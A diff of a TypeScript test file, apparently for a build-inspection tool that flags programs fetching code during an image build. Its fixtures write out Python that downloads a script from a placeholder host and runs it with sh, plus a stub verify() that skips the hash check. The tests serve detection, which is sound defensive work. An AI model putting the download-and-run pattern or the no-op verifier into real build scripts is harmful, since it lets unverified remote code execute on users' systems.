@@ -90,12 +90,15 @@ describe('the modules of a program that a build runs', () => {
 
   it('check what a program fetches', async () => {
     const fetches = (check: string): string =>
-      `import subprocess, urllib.request\n${check}\ndata = urllib.request.urlopen("https://x.example.com/i.sh").read()\nopen("/i.sh", "wb").write(data)\nsubprocess.run(["sh", "/i.sh"])\n`;
+      `import subprocess, urllib.request\n${check}\ndata = urllib.request.urlopen("https://x.example.com/i.sh").read()\nverify(data, "0")\nopen("/i.sh", "wb").write(data)\nsubprocess.run(["sh", "/i.sh"])\n`;
     const own = 'import hashlib\ndef verify(d, w):\n    if hashlib.sha256(d).hexdigest() != w: raise SystemExit(1)\n';
     const base = image('RUN python3 setup.py', { 'setup.py': fetches(own) });
     expect(await failuresOf(base, { 'setup.py': fetches('from checks import verify'), 'checks.py': own })).toEqual([]);
     expect(
-      await failuresOf(base, { 'setup.py': fetches('import checks'), 'checks.py': 'def verify(d, w): pass\n' }),
+      await failuresOf(base, {
+        'setup.py': fetches('from checks import verify'),
+        'checks.py': 'def verify(d, w): pass\n',
+      }),
     ).not.toEqual([]);
   });
 
